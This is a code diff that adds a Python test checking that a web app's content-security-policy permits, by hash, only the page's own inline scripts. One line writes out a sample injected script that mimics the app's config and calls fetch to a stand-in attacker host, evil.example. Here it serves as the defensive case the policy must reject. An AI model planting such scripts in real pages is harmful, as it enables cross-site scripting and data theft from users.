@@ -281,3 +281,28 @@ def test_a_forwarded_for_header_gives_no_fresh_allowance(tmp_path):
             for n in range(3)
         ]
     assert statuses == [200, 200, 429]
+
+
+def test_the_page_allows_only_its_own_inline_scripts(signed_up):
+    import base64
+    import hashlib
+    import re
+
+    from ui.security import page_policy
+
+    response = signed_in(signed_up, "eddie").http.get("/")
+    policy = response.headers["content-security-policy"]
+    inline = re.compile(rb"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", re.S)
+
+    def allowed(body: bytes) -> bool:
+        digest = base64.b64encode(hashlib.sha256(body).digest()).decode()
+        return f"'sha256-{digest}'" in policy
+
+    scripts = inline.findall(response.content)
+    assert scripts and all(allowed(body) for body in scripts)
+    # A script that reached the page from anywhere else is not the app's, whatever it
+    # imitates: the policy for that page is the same, without it.
+    injected = b"window.gradio_config = {};fetch('//evil.example')//};"
+    page = response.content.replace(b"</head>", b"<script>" + injected + b"</script></head>")
+    assert page_policy(page) == policy
+    assert not allowed(injected)
